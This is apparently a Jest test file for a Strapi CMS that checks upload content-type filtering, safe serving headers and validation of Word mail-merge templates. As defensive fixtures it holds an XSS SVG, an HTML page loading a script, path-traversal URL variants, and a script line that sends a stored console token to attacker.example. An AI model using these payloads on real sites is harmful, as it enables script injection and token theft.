// Issue 8 §4 and issue 9 §4: what a functional admin (or whoever holds an admin account) can put
// in the CMS media library, how it is served back, and Word templates checked when given — all
// through the admin panel's HTTP API.
import fs from 'fs';
import path from 'path';
import PizZip from 'pizzip';
import { cmsAdmin, type CmsAdmin } from '../support/cms-admin';
import { startTestApp, type TestApp } from '../support/test-app';

let app: TestApp;
let admin: CmsAdmin;

const TEMPLATES = path.resolve(__dirname, '../../plugins/cer/templates');
const DOCX_MIME = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const shipped = (name: string): Buffer => fs.readFileSync(path.join(TEMPLATES, `cer-${name}.docx`));
const PNG = fs.readFileSync(path.resolve(__dirname, '../../cms/favicon.png'));
// A 2×2 white JPEG (made with sharp).
const JPEG = Buffer.from('/9j/2wBDAAYEBQYFBAYGBQYHBwYIChAKCgkJChQODwwQFxQYGBcUFhYaHSUfGhsjHBYWICwgIyYnKSopGR8tMC0oMCUoKSj/2wBDAQcHBwoIChMKChMoGhYaKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCgoKCj/wAARCAACAAIDASIAAhEBAxEB/8QAFQABAQAAAAAAAAAAAAAAAAAAAAj/xAAUEAEAAAAAAAAAAAAAAAAAAAAA/8QAFAEBAAAAAAAAAAAAAAAAAAAAAP/EABQRAQAAAAAAAAAAAAAAAAAAAAD/2gAMAwEAAhEDEQA/AKpAB//Z', 'base64');
const HTML = Buffer.from('<!doctype html><html><body><script src="/uploads/evil.js"></script></body></html>');
const JS = Buffer.from('fetch("https://attacker.example/?t=" + localStorage.getItem("rsa-console-token"));');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>');

/** The shipped « sans décision » template with one more paragraph of text. */
const templateWith = (text: string): Buffer => {
  const zip = new PizZip(shipped('sans-decision'));
  const xml = zip.file('word/document.xml')!.asText().replace('</w:body>', `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p></w:body>`);
  zip.file('word/document.xml', xml);
  return zip.generate({ type: 'nodebuffer' });
};

type Uploaded = { id: number; url: string; mime: string; name: string };
type ErrorBody = { error: { status: number; message: string; details?: Record<string, unknown> } };
type Template = { id: number; documentId: string; kind: string; mergeFields: string; file: { id: number } | null };

const uploadedFiles = async (): Promise<number> => app.strapi.db.query('plugin::upload.file').count();
const storedNames = (): string[] => {
  const dir = path.join(app.strapi.dirs.static.public, 'uploads');
  return fs.existsSync(dir) ? fs.readdirSync(dir) : [];
};
const templateEntry = async (kind: string): Promise<Template> =>
  (await app.strapi.db.query('api::document-template.document-template').findOne({ where: { kind }, populate: { file: true } })) as Template;
const saveTemplate = (entry: Template, data: Record<string, unknown>) =>
  admin.call<ErrorBody & { data: Template }>('PUT', `/content-manager/collection-types/api::document-template.document-template/${entry.documentId}`, data);

beforeAll(async () => {
  app = await startTestApp();
  admin = await cmsAdmin(app.baseUrl);
});
afterAll(async () => {
  if (app) for (const name of storedNames()) if (name.startsWith('planted_')) fs.rmSync(path.join(app.strapi.dirs.static.public, 'uploads', name), { force: true });
  await app?.stop();
});

describe('the media library accepts only docx, pdf, png and jpeg, by content', () => {
  test.each<[string, string, Buffer, string, RegExp]>([
    ['an HTML page', 'evil.html', HTML, 'text/html', /^Fichier « evil\.html » refusé : son contenu n’est pas d’un type accepté\. Seuls sont acceptés les documents Word \(\.docx\), les documents PDF et les images PNG ou JPEG/],
    ['a script', 'evil.js', JS, 'text/javascript', /^Fichier « evil\.js » refusé : son contenu n’est pas d’un type accepté/],
    ['an SVG image', 'logo.svg', SVG, 'image/svg+xml', /^Fichier « logo\.svg » refusé/],
    ['an HTML page declared as a PNG', 'evil.png', HTML, 'image/png', /^Fichier « evil\.png » refusé : son contenu n’est pas d’un type accepté/],
    ['a Word document renamed .png', 'modele.png', shipped('vierge'), 'image/png', /^Fichier « modele\.png » refusé : son contenu est un document Word \(\.docx\), son nom doit finir par \.docx\.$/],
  ])('%s is refused with a French message and nothing is stored', async (_label, name, bytes, type, message) => {
    const before = await uploadedFiles();
    const storedBefore = storedNames().length;
    const response = await admin.upload<ErrorBody>('/upload', [{ name, bytes, type }]);
    expect(response.status).toBe(400);
    expect(response.body.error.message).toMatch(message);
    expect(await uploadedFiles()).toBe(before);
    expect(storedNames()).toHaveLength(storedBefore);
  });

  test('one bad file among good ones refuses the whole upload', async () => {
    const before = await uploadedFiles();
    const response = await admin.upload<ErrorBody>('/upload', [
      { name: 'logo.png', bytes: PNG, type: 'image/png' },
      { name: 'evil.html', bytes: HTML, type: 'text/html' },
    ]);
    expect(response.status).toBe(400);
    expect(await uploadedFiles()).toBe(before);
  });

  test('a real PNG is stored and served as a download that cannot be sniffed into a page', async () => {
    const response = await admin.upload<Uploaded[]>('/upload', [{ name: 'logo.png', bytes: PNG, type: 'application/octet-stream' }]);
    expect(response.status).toBe(201);
    const [file] = response.body;
    expect(file.mime).toBe('image/png');
    const served = await fetch(`${app.baseUrl}${file.url}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('content-disposition')).toBe('attachment');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox; frame-ancestors 'none'");
    expect(served.headers.get('x-powered-by')).toBeNull();
    // (Strapi's size optimisation may re-encode it: still a PNG.)
    expect(Buffer.from(await served.arrayBuffer()).subarray(0, 8).equals(PNG.subarray(0, 8))).toBe(true);
  });

  test('a real JPEG is stored as image/jpeg', async () => {
    const response = await admin.upload<Uploaded[]>('/upload', [{ name: 'photo.jpg', bytes: JPEG, type: 'image/jpeg' }]);
    expect(response.status).toBe(201);
    expect(response.body[0].mime).toBe('image/jpeg');
  });

  test('a real Word document and a PDF are stored with their true type', async () => {
    const docx = await admin.upload<Uploaded[]>('/upload', [{ name: 'courrier.docx', bytes: shipped('vierge'), type: 'application/octet-stream' }]);
    expect(docx.status).toBe(201);
    expect(docx.body[0].mime).toBe(DOCX_MIME);
    const pdf = await admin.upload<Uploaded[]>('/upload', [{ name: 'note.pdf', bytes: Buffer.from('%PDF-1.4\n%%EOF\n'), type: 'application/pdf' }]);
    expect(pdf.status).toBe(201);
    expect(pdf.body[0].mime).toBe('application/pdf');
    const served = await fetch(`${app.baseUrl}${docx.body[0].url}`);
    expect(served.headers.get('content-type')).toBe(DOCX_MIME);
    expect(served.headers.get('content-disposition')).toBe('attachment');
  });

  test('replacing a file with a page is refused and the file is kept', async () => {
    const [file] = (await admin.upload<Uploaded[]>('/upload', [{ name: 'logo.png', bytes: PNG }])).body;
    const replaced = await admin.upload<ErrorBody>(`/upload?id=${file.id}`, [{ name: 'evil.html', bytes: HTML, type: 'text/html' }]);
    expect(replaced.status).toBe(400);
    expect(replaced.body.error.message).toMatch(/^Fichier « evil\.html » refusé/);
    const kept = (await app.strapi.db.query('plugin::upload.file').findOne({ where: { id: file.id } })) as Uploaded;
    expect(kept.mime).toBe('image/png');
    expect(Buffer.from(await (await fetch(`${app.baseUrl}${file.url}`)).arrayBuffer()).subarray(0, 8).equals(PNG.subarray(0, 8))).toBe(true);
  });

  test('every other way into the upload service is checked too (URL import, code)', async () => {
    const tmp = fs.mkdtempSync(path.join(require('os').tmpdir(), 'rsa-upload-'));
    const filepath = path.join(tmp, 'evil.html');
    fs.writeFileSync(filepath, HTML);
    const service = app.strapi.plugin('upload').service('upload') as { upload(args: unknown): Promise<unknown> };
    await expect(service.upload({ data: { fileInfo: {} }, files: { filepath, originalFilename: 'evil.html', mimetype: 'text/html', size: HTML.length } })).rejects.toThrow(
      /^Fichier « evil\.html » refusé/,
    );
    fs.rmSync(tmp, { recursive: true, force: true });
  });

  test('a page stored before these checks is served as inert bytes, however its path is spelt', async () => {
    const dir = path.join(app.strapi.dirs.static.public, 'uploads');
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, 'planted_evil.html'), HTML);
    fs.writeFileSync(path.join(dir, 'planted_evil.js'), JS);
    for (const spelling of ['/uploads/planted_evil.html', '//uploads/planted_evil.html', '/x/../uploads/planted_evil.html', '/uploads%2Fplanted_evil.html', '/uploads/planted_evil.js']) {
      const served = await fetch(`${app.baseUrl}${spelling}`);
      if (served.status !== 200) continue; // not served at all under that spelling: fine
      expect([spelling, served.headers.get('content-type')]).toEqual([spelling, 'application/octet-stream']);
      expect(served.headers.get('content-disposition')).toBe('attachment');
      expect(served.headers.get('x-content-type-options')).toBe('nosniff');
      expect(served.headers.get('content-security-policy')).toContain('sandbox');
    }
    expect((await fetch(`${app.baseUrl}/uploads/planted_evil.html`)).status).toBe(200);
  });
});

describe('Word templates are checked when a functional admin gives them', () => {
  test('each kind has its entry, its merge fields (read-only) and a downloadable default template', async () => {
    // The CER kinds (the mail merge's kinds are pinned in mail-merge.test.ts).
    const entries = (await app.strapi.db.query('api::document-template.document-template').findMany({ where: { kind: { $startsWith: 'cer-' } }, orderBy: { kind: 'asc' } })) as Template[];
    expect(entries.map((entry) => entry.kind)).toEqual(['cer-decision-non-valide', 'cer-decision-valide', 'cer-sans-decision', 'cer-vierge']);
    const valide = entries.find((entry) => entry.kind === 'cer-decision-valide')!;
    expect(valide.mergeFields).toContain('{validatedOn} : Date de validation (jj/mm/aaaa)');
    expect(valide.mergeFields).toContain('/api/cer/templates/decision-valide/default');
    expect(entries.find((entry) => entry.kind === 'cer-vierge')!.mergeFields).toMatch(/^Ce modèle n’utilise aucun champ de fusion/);
    // The admin's edit view shows it; what the admin types there is ignored.
    const saved = await saveTemplate(valide, { mergeFields: 'modifié à la main' });
    expect(saved.status).toBe(200);
    expect((await templateEntry('cer-decision-valide')).mergeFields).toBe(valide.mergeFields);

    const download = await fetch(`${app.baseUrl}/api/cer/templates/decision-valide/default`);
    expect(download.status).toBe(200);
    expect(download.headers.get('content-type')).toBe(DOCX_MIME);
    expect(download.headers.get('content-disposition')).toBe('attachment; filename="cer-decision-valide.docx"');
    expect(Buffer.from(await download.arrayBuffer()).equals(shipped('decision-valide'))).toBe(true);
    expect((await fetch(`${app.baseUrl}/api/cer/templates/autre/default`)).status).toBe(404);
  });

  test('a valid template is accepted and attached', async () => {
    const [file] = (await admin.upload<Uploaded[]>('/upload', [{ name: 'cer-sans-decision.docx', bytes: templateWith('Suivi : {referentName}') }])).body;
    const entry = await templateEntry('cer-sans-decision');
    const saved = await saveTemplate(entry, { file: file.id });
    expect(saved.status).toBe(200);
    expect((await templateEntry('cer-sans-decision')).file?.id).toBe(file.id);
  });

  test('a template with unknown tags is refused at save with the list of them, and the entry is unchanged', async () => {
    const [file] = (await admin.upload<Uploaded[]>('/upload', [{ name: 'cer-decision-valide.docx', bytes: templateWith('{nomDeFamille} {referentNote}') }])).body;
    const entry = await templateEntry('cer-decision-valide');
    const saved = await saveTemplate(entry, { file: file.id });
    expect(saved.status).toBe(400);
    expect(saved.body.error.message).toMatch(/^Le modèle « CER décision valide » utilise des champs de fusion inconnus pour ce modèle : \{nomDeFamille\}, \{referentNote\}\. Champs disponibles : \{civility\}, /);
    expect(saved.body.error.details).toEqual({ unknownTags: ['nomDeFamille', 'referentNote'], details: ['{nomDeFamille}', '{referentNote}'] });
    expect((await templateEntry('cer-decision-valide')).file).toBeNull();
  });

  test('a field of another kind is refused (a decision in « sans décision »)', async () => {
    const [file] = (await admin.upload<Uploaded[]>('/upload', [{ name: 'modele.docx', bytes: templateWith('{decision}') }])).body;
    const saved = await saveTemplate(await templateEntry('cer-decision-non-valide'), { file: file.id });
    expect(saved.status).toBe(200); // decision belongs to the decision templates
    const refused = await saveTemplate(await templateEntry('cer-vierge'), { file: file.id });
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toMatch(/^Le modèle « CER vierge » utilise des champs de fusion inconnus pour ce modèle : .*\{decision\}.*\. Ce modèle n’utilise aucun champ de fusion\.$/);
  });

  test('a file that is not a Word document is refused as a template', async () => {
    const [pdf] = (await admin.upload<Uploaded[]>('/upload', [{ name: 'modele.pdf', bytes: Buffer.from('%PDF-1.4\n%%EOF\n') }])).body;
    const saved = await saveTemplate(await templateEntry('cer-decision-valide'), { file: pdf.id });
    expect(saved.status).toBe(400);
    expect(saved.body.error.message).toBe('Le modèle « CER décision valide » doit être un document Word (.docx).');
    const broken = (await admin.upload<Uploaded[]>('/upload', [{ name: 'casse.docx', bytes: templateWith('{#objectives}{theme}') }])).body[0];
    const unbalanced = await saveTemplate(await templateEntry('cer-decision-valide'), { file: broken.id });
    expect(unbalanced.status).toBe(400);
    expect(unbalanced.body.error.message).toMatch(/^Le modèle « CER décision valide » est mal formé : /);
  });

  test('replacing the file a template uses, or uploading straight into the entry, is checked too', async () => {
    const entry = await templateEntry('cer-sans-decision');
    const fileId = entry.file!.id;
    const replaced = await admin.upload<ErrorBody>(`/upload?id=${fileId}`, [{ name: 'cer-sans-decision.docx', bytes: templateWith('{inconnu}') }]);
    expect(replaced.status).toBe(400);
    expect(replaced.body.error.message).toMatch(/^Le modèle « CER sans décision » utilise des champs de fusion inconnus pour ce modèle : \{inconnu\}\./);
    const good = await admin.upload<Uploaded>(`/upload?id=${fileId}`, [{ name: 'cer-sans-decision.docx', bytes: templateWith('Version 2 {fileNumber}') }]);
    expect(good.status).toBe(200);

    const attached = await admin.upload<ErrorBody>('/upload', [{ name: 'direct.docx', bytes: templateWith('{inconnu}') }], {
      ref: 'api::document-template.document-template',
      refId: String(entry.id),
      field: 'file',
    });
    expect(attached.status).toBe(400);
    expect(attached.body.error.message).toMatch(/\{inconnu\}/);
  });
});
